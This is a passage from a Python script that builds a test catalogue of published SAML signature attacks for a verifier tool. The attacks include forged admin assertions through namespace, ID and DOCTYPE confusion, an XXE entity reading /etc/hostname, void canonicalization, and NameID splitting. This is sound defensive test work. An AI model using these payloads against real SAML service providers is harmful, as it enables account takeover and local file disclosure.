    # --- parser differentials, namespace and attribute confusion ---------------------
    hidden_forged = forged_assertion()
    if "--" in hidden_forged:
        sys.exit("the forged assertion cannot sit in a comment")
    doctype = f"<!DOCTYPE samlp:Response [\n<!-- ]>{hidden_forged} -->\n]>\n"
    add(Case("cve-2025-25291-ruby-saml-doctype-differential.xml", "attack",
             "CVE-2025-25291 / GHSA-4vc4-m8qh-g8jm (ruby-saml, REXML vs Nokogiri)",
             "A DOCTYPE whose internal subset holds a comment starting with \"]>\" and a forged "
             "Assertion: a conforming parser sees a comment in the DTD, a parser that ends the DTD "
             "at the first \"]>\" sees an Assertion for admin@example.test before the signed Response.",
             "the naive parser's first Assertion: admin@example.test",
             "refused: a DTD in a SAML message is never legitimate (core.xml.doctype), nothing trusted",
             "none", ["core.xml.doctype=error"]),
        once(base, '<?xml version="1.0" encoding="UTF-8"?>\n', '<?xml version="1.0" encoding="UTF-8"?>\n' + doctype))
    rebound = forged_assertion(declare=' xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion:lookalike"')
    add(Case("cve-2025-25292-ruby-saml-rebound-saml-prefix.xml", "attack",
             "CVE-2025-25292 / GHSA-754f-8gm6-c4r2 (ruby-saml), namespace confusion",
             "A forged saml:Assertion before the signed one, with the saml prefix re-declared to a "
             "look-alike namespace: a namespace-aware reader skips it, one matching the prefix "
             "\"saml:\" reads it.",
             "a prefix-matching reader: admin@example.test",
             "not trusted: an element posing as an Assertion under a look-alike namespace is a wrapping attempt",
             "none", wrapping_finding, hidden),
        once(base, "  " + signed, "  " + rebound + "\n  " + signed))
    fake_ds = re.sub(r'xmlns:ds="http://www.w3.org/2000/09/xmldsig#"',
                     'xmlns:ds="http://www.w3.org/2000/09/xmldsig"', tampered, count=1)
    add(Case("cve-2025-66567-ruby-saml-signature-in-lookalike-namespace.xml", "attack",
             "CVE-2025-66567 (ruby-saml), namespace confusion (incomplete fix of CVE-2025-25292)",
             "The NameID and Role are changed and the ds prefix of the (now stale) signature is "
             "bound to a look-alike namespace without the trailing '#': the element is no XML "
             "Signature at all, though a prefix-matching reader still sees ds:Signature.",
             "admin@example.test, if the software treats ds:Signature by prefix and skips it on error",
             "not trusted: no XML Signature in the message (core.sig.present)",
             "none", ["core.sig.present|core.sig.valid=error"]),
        fake_ds)
    add(Case("cve-2025-66567-ruby-saml-duplicate-id.xml", "attack",
             "CVE-2025-66567 (ruby-saml), ID pollution from \"The Fragile Lock\" (PortSwigger, 2025)",
             "A forged Assertion with the same ID as the signed one is placed before it: which one "
             "the Reference resolves to depends on the ID lookup.",
             "the first element with that ID: admin@example.test",
             "not trusted: two elements carry the referenced ID, the reference is ambiguous",
             "none", ["core.sig.valid|core.assertion.count|core.sig.coverage=error"]),
        once(base, "  " + signed, "  " + forged_assertion(assertion_id=ASSERTION_ID) + "\n  " + signed))
    namespaced_id = forged_assertion(extra_attributes=f' xmlns:x="urn:example:lookalike" x:ID="{ASSERTION_ID}"')
    add(Case("cve-2025-66567-ruby-saml-namespaced-id.xml", "attack",
             "CVE-2025-66567 (ruby-saml), attribute pollution from \"The Fragile Lock\" (PortSwigger, 2025)",
             "A forged Assertion before the signed one carries x:ID (an attribute in another "
             "namespace) equal to the signed Assertion's ID: a lookup by local name finds it first.",
             "admin@example.test",
             "not trusted: a wrapping error naming the unsigned Assertion",
             "none", wrapping_finding, hidden),
        once(base, "  " + signed, "  " + namespaced_id + "\n  " + signed))
    lowercase_id = forged_assertion().replace(f'ID="{FORGED_ID}"', f'Id="{ASSERTION_ID}"', 1)
    add(Case("cve-2025-66567-ruby-saml-id-attribute-case.xml", "attack",
             "CVE-2025-66567 (ruby-saml), ID look-alike from \"The Fragile Lock\" (PortSwigger, 2025); xml-crypto's default also accepts Id, ID and id",
             "A forged Assertion before the signed one has no ID but Id=\"<the signed ID>\": a "
             "verifier that accepts Id/ID/id as the same attribute resolves the reference to it.",
             "admin@example.test",
             "not trusted: a wrapping error naming the unsigned Assertion",
             "none", wrapping_finding, hidden),
        once(base, "  " + signed, "  " + lowercase_id + "\n  " + signed))
    padded_id = forged_assertion(assertion_id=f" {ASSERTION_ID} ")
    add(Case("cve-2025-66567-ruby-saml-whitespace-id.xml", "attack",
             "CVE-2025-66567 (ruby-saml), ID look-alike from \"The Fragile Lock\" (PortSwigger, 2025)",
             "A forged Assertion before the signed one with ID=\" <the signed ID> \" (spaces around "
             "it): a lookup that trims or normalizes attribute values matches it.",
             "admin@example.test",
             "not trusted: a wrapping error naming the unsigned Assertion",
             "none", wrapping_finding, hidden),
        once(base, "  " + signed, "  " + padded_id + "\n  " + signed))
    xxe = f'<!DOCTYPE samlp:Response [\n  <!ENTITY who SYSTEM "file:///etc/hostname">\n]>\n'
    add(Case("cve-2024-52806-simplesamlphp-saml2-xxe.xml", "attack",
             "CVE-2024-52806 (simplesamlphp/saml2); also CVE-2026-28809 (esaml)",
             "An external entity declared in a DOCTYPE and used in the NameID: a parser that "
             "expands it reads a local file before any signature is checked.",
             "the file's content as the NameID (and the file leaks through errors and logs)",
             "refused before anything else: core.xml.doctype, nothing trusted, no entity expanded",
             "none", ["core.xml.doctype=error"]),
        once(base, '<?xml version="1.0" encoding="UTF-8"?>\n', '<?xml version="1.0" encoding="UTF-8"?>\n' + xxe)
        .replace(f">{VICTIM}<", ">&who;<", 1))

    # --- void canonicalization --------------------------------------------------------
    void = once(tampered, f'<saml:Assertion ID="{ASSERTION_ID}"',
                f'<saml:Assertion xmlns:void="void" ID="{ASSERTION_ID}"')
    void = once(void, f"<ds:DigestValue>{original_digest}</ds:DigestValue>",
                f"<ds:DigestValue>{digest_b64(b'')}</ds:DigestValue>")
    void = signer.resign_rsa(void)
    add(Case("cve-2025-66568-ruby-saml-void-canonicalization.xml", "attack",
             "CVE-2025-66568 / GHSA-x4h9-gwv3-r4m4 (ruby-saml, with Nokogiri/libxml2)",
             "The forged Assertion declares a relative namespace URI (xmlns:void=\"void\"), on which "
             "libxml2's C14N fails; a verifier that goes on with the empty output digests nothing, "
             "so DigestValue is SHA-256 of the empty string. SignedInfo is signed here with the "
             "IdP's own key, so only the canonicalization step can refuse it.",
             "admin@example.test",
             "not trusted: the digest of the Assertion's real canonical form does not match "
             "(or canonicalization refuses the relative namespace), never a match on empty output",
             "none", ["core.sig.valid=error"]),
        void)
    # Two transforms, as SAML signatures have; the XPath one drops every node (and with
    # them the Signature, so no enveloped-signature transform is needed).
    empty_xpath = (f'<ds:Transform Algorithm="{XPATH}"><ds:XPath>false()</ds:XPath></ds:Transform>\n'
                   f'          <ds:Transform Algorithm="{EXC_C14N}"/>')
    add(Case("cve-2025-66568-ruby-saml-void-reference.xml", "attack",
             "CVE-2025-66568 / GHSA-x4h9-gwv3-r4m4 (ruby-saml), void canonicalization class",
             "A legitimately made signature on the Response whose Reference (URI=\"\", the whole "
             "document) keeps no node through an XPath transform: it digests the empty string and "
             "covers nothing, yet verifies.",
             "alice, believed signed",
             "not trusted: a signature over empty content covers nothing (XPath transforms are also refused)",
             "none", ["core.sig.valid|core.sig.coverage=error"]),
        signer.sign(response(assertion(), signature=signature_template("", transforms=empty_xpath))))

    # --- NameID split by comment, CDATA or processing instruction after signing ------
    add(Case("vu-475445-nameid-comment-after-signing.xml", "attack",
             "VU#475445 / CVE-2017-11428 class (comment truncation), the comment trick of CVE-2025-29775",
             "The attacker, signed in legitimately as alice@example.test.evil.test, inserts a comment "
             "after signing: alice@example.test<!---->.evil.test. C14N drops comments, so the "
             "signature still verifies (xmlsec1 agrees).",
             "software that reads the first text node: alice@example.test (another user)",
             "trusted at the signature level (the joined text is what was signed); core.nameid warns of the comment",
             "trusted", ["core.nameid=warning|error"], ["comment"]),
        signer.sign(response(assertion(name_id="alice@example.test.evil.test", session="alice",
                                       signature=signature_template(f"#{ASSERTION_ID}"))))
        .replace(">alice@example.test.evil.test<", ">alice@example.test<!---->.evil.test<", 1))
    add(Case("vu-475445-nameid-cdata-after-signing.xml", "attack",
             "VU#475445 / CVE-2017-11428 class (text-node truncation), CDATA variant",
             "A CDATA section splits the NameID after signing: alice@example.test<![CDATA[.evil.test]]>. "
             "C14N replaces CDATA by its text, so the signature still verifies.",
             "software that reads the first text node: alice@example.test",
             "trusted at the signature level; core.nameid warns of the CDATA split",
             "trusted", ["core.nameid=warning|error"], ["CDATA"]),
        signer.sign(response(assertion(name_id="alice@example.test.evil.test", session="alice",
                                       signature=signature_template(f"#{ASSERTION_ID}"))))
        .replace(">alice@example.test.evil.test<", ">alice@example.test<![CDATA[.evil.test]]><", 1))
    add(Case("vu-475445-nameid-pi-after-signing.xml", "attack",
             "VU#475445 / CVE-2017-11428 class (text-node truncation), processing-instruction variant",
             "A processing instruction inserted into the NameID after signing. C14N keeps PIs, so "
             "the digest no longer matches.",
             "software that reads the first text node: alice@example.test",
             "not trusted: digest mismatch",
             "none", ["core.sig.valid=error"], ["digest"]),
        signer.sign(response(assertion(name_id="alice@example.test.evil.test", session="alice",
                                       signature=signature_template(f"#{ASSERTION_ID}"))))
        .replace(">alice@example.test.evil.test<", ">alice@example.test<?split?>.evil.test<", 1))
    return cases


# --- output ------------------------------------------------------------------------------


MANIFEST_HEADER = """# The attack catalogue, one case per line, written by scripts/make-attacks.py.
# Columns (tab-separated): file, kind (attack|control), expected assertion_signature,
# required findings (`id|id=severity|severity`, `;` between requirements), words the first
# required finding must mention (`;` between them), what `xmlsec1 --verify` with idp.pem says.
"""


def write(out, cases):
    with open(os.path.join(out, "cases.tsv"), "w") as manifest:
        manifest.write(MANIFEST_HEADER)
        for case in cases:
            manifest.write("\t".join([case.file, case.kind, case.expect, ";".join(case.findings),
                                      ";".join(case.mentions), case.xmlsec1]) + "\n")
    for case in cases:
        with open(os.path.join(out, case.file), "w") as file:
            file.write(case.xml)
    lines = []
    for case in cases:
        xmlsec1 = f"xmlsec1 --verify: {case.xmlsec1}"
        if case.xmlsec1 == "OK" and case.expect != "trusted":
            xmlsec1 += (" (it checks only the signature it finds first, which is intact, and not "
                        "what an SP reads; our verdict must still refuse it)")
        reader = "Every SP reads" if case.kind == "control" else "A vulnerable SP reads"
        lines.append(f"- `{case.file}` — **{case.advisory}**. {case.what} {reader}: "
                     f"{case.reads}. Correct verdict: {case.verdict}. {xmlsec1}.")
    with open(os.path.join(out, "README.md"), "w") as readme:
        readme.write(README.format(cases="\n".join(lines)))


README = """# Attack catalogue

Published SAML / XML-DSig attacks from advisories of 2024–2026, each reproduced on a
Response that xmlsec1 signed legitimately (`idp.key`, made by the script) and then edited
as the attack edits it, with positive controls next to them. Made by
`scripts/make-attacks.py` (Python's standard library, openssl, xmlsec1, xmllint); read by
`tests/attacks.rs`, which runs `saml-inspect --format json --trust idp.pem --at
2025-03-04T09:16:00Z` on every case and checks the verdict in `cases.tsv`, checks that
`xmlsec1 --verify` still says what `cases.tsv` records, and re-runs the script to check
the committed files are what it writes. Each case names its advisory; the files and the
wording are our own. All content is made up; `idp` and `attacker` are throw-away test keys
(both certificates carry the same subject name: trust goes by key, never by name).

Signed content: Assertion `_a-7d40b6c1` for alice@example.test with the ReadOnly role
(Response `_r-3f1c9a2e`, Destination https://signin.aws.amazon.com/saml). Forged
content: admin@example.test with the Admin role.

{cases}
"""


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--out", default=FIXTURES, help="where to write the catalogue")
    out = parser.parse_args().out
    os.makedirs(out, exist_ok=True)
    keys = FIXTURES
    if os.path.abspath(out) == os.path.abspath(FIXTURES):
        certificate(keys, "idp", "5A4D1001")
        certificate(keys, "attacker", "5A4D1002")
    else:
        for name in ["idp.key", "idp.pem", "attacker.key", "attacker.pem"]:
            shutil.copyfile(os.path.join(keys, name), os.path.join(out, name))
    with tempfile.TemporaryDirectory() as work:
        cases = build(Signer(keys, work), keys)
    write(out, cases)
    print(f"{len(cases)} cases written to {out}")


if __name__ == "__main__":
    main()
